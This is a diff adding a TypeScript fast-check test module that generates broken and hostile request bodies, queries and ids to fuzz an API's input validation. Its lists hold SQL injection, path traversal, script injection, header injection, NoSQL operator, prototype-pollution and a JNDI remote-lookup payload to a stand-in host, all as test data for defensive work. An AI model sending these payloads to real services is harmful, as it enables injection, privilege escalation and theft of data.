@@ -1,0 +1,151 @@
+import fc, { type Arbitrary } from 'fast-check';
+import type { Json } from './fitting-input';
+
+/** Texts that have broken programs before. */
+export const HOSTILE_TEXTS = [
+  '',
+  ' ',
+  '\u0000',
+  'a\u0000b',
+  'a\ud800b',
+  '\u202e\u200f',
+  '\r\nBcc: someone@else.test',
+  "'",
+  '"; drop table account; --',
+  '1 union select password_hash from account',
+  '\\',
+  '%',
+  '_',
+  '[object Object]',
+  'NaN',
+  '1e309',
+  '-1',
+  '0x10',
+  '٩٩٩٩٩٩٩٩٩٩٩٩',
+  '2026-02-30',
+  '2026-13',
+  '0000-00-00',
+  '9999-99-99T99:99:99Z',
+  '275760-09-13',
+  '../../../etc/passwd',
+  '<script>alert(1)</script>',
+  '$\u007bjndi:ldap://a.test/a}',
+  '__proto__',
+  'constructor',
+  'x'.repeat(5000),
+  'ﷺ'.repeat(300),
+];
+
+const hostileValue: Arbitrary<Json> = fc.oneof(
+  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
+  {
+    weight: 2,
+    arbitrary: fc.constantFrom<Json>(
+      null,
+      true,
+      0,
+      -0.001,
+      24.001,
+      1e21,
+      -1e21,
+      Number.MAX_SAFE_INTEGER,
+      [],
+      {},
+      [[]],
+      ['a', 'a'],
+      Array(60).fill('a'),
+      { $gt: '' },
+      { toString: 1, length: 1 },
+    ),
+  },
+  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) as Arbitrary<Json> },
+);
+
+/** Fields that nobody may set, and names that lead into every object. */
+const FOREIGN_FIELDS = [
+  '_id',
+  'id',
+  'approved',
+  'role',
+  'status',
+  'teacher_name',
+  'bookingDate',
+  'created_by',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+];
+
+/** A body in which something is wrong, made from one that fits: as the text that is sent. */
+export function brokenBody(fitting: Arbitrary<Json>): Arbitrary<string> {
+  return fc.oneof(
+    { weight: 5, arbitrary: fc.tuple(fitting, fc.nat(), hostileValue).map(replaceOne) },
+    { weight: 2, arbitrary: fc.tuple(fitting, fc.nat()).map(dropOne) },
+    {
+      weight: 2,
+      arbitrary: fc.tuple(fitting, fc.constantFrom(...FOREIGN_FIELDS), hostileValue).map(addOne),
+    },
+    { weight: 2, arbitrary: hostileValue.map((value) => JSON.stringify(value)) },
+    { weight: 1, arbitrary: fc.tuple(fitting, fc.nat()).map(cutShort) },
+  );
+}
+
+/** A query in which something is wrong: as the text that follows the question mark, without the token. */
+export function brokenQuery(fitting: Arbitrary<Json>): Arbitrary<string> {
+  const value = fc.oneof(fc.constantFrom(...HOSTILE_TEXTS), fc.string({ unit: 'binary', maxLength: 30 }));
+  return fc.oneof(
+    fc
+      .tuple(fitting, fc.nat(), value)
+      .map((parts) => queryText(JSON.parse(replaceOne(parts)) as Record<string, Json>)),
+    fc.tuple(fitting, fc.nat()).map((parts) => queryText(JSON.parse(dropOne(parts)) as Record<string, Json>)),
+    fitting.map(
+      (fields) => `${queryText(fields as Record<string, Json>)}&${queryText(fields as Record<string, Json>)}`,
+    ),
+    fitting.map((fields) =>
+      queryText(fields as Record<string, Json>)
+        .replace(/=/g, '[]=')
+        .concat('&__proto__[role]=admin&constructor.prototype.role=admin'),
+    ),
+    fc.constantFrom('&&&', '=', '%', '%zz', '%00', '?', '#', `${'a=b&'.repeat(1500)}`),
+  );
+}
+
+/** What follows in a path where an id belongs. */
+export const brokenId: Arbitrary<string> = fc
+  .oneof(fc.constantFrom(...HOSTILE_TEXTS.filter((text) => text.trim() !== '')), fc.string({ minLength: 1 }))
+  .map((text) => encodeURIComponent(text.replace(/\p{Cs}/gu, '?')).replace(/^\.+$/, '%2e%2e'));
+
+/** The text of a query. */
+export function queryText(fields: Record<string, Json>): string {
+  const parameters = new URLSearchParams();
+  for (const [name, value] of Object.entries(fields)) {
+    parameters.append(name, typeof value === 'string' ? value : JSON.stringify(value));
+  }
+  return parameters.toString();
+}
+
+function replaceOne([fitting, position, value]: [Json, number, Json]): string {
+  const fields = Object.entries(fitting as Record<string, Json>);
+  const replaced = position % Math.max(fields.length, 1);
+  return textOf(fields.map(([name, old], index) => [name, index === replaced ? value : old]));
+}
+
+function dropOne([fitting, position]: [Json, number]): string {
+  const fields = Object.entries(fitting as Record<string, Json>);
+  return textOf(fields.filter((_, index) => index !== position % Math.max(fields.length, 1)));
+}
+
+function addOne([fitting, name, value]: [Json, string, Json]): string {
+  return textOf([...Object.entries(fitting as Record<string, Json>), [name, value]]);
+}
+
+function cutShort([fitting, length]: [Json, number]): string {
+  const whole = JSON.stringify(fitting);
+  return whole.slice(0, length % whole.length);
+}
+
+/** Written by hand: as an object, `__proto__` would vanish. */
+function textOf(fields: [string, Json][]): string {
+  return `{${fields.map(([name, value]) => `${JSON.stringify(name)}:${JSON.stringify(value)}`).join(',')}}`;
+}
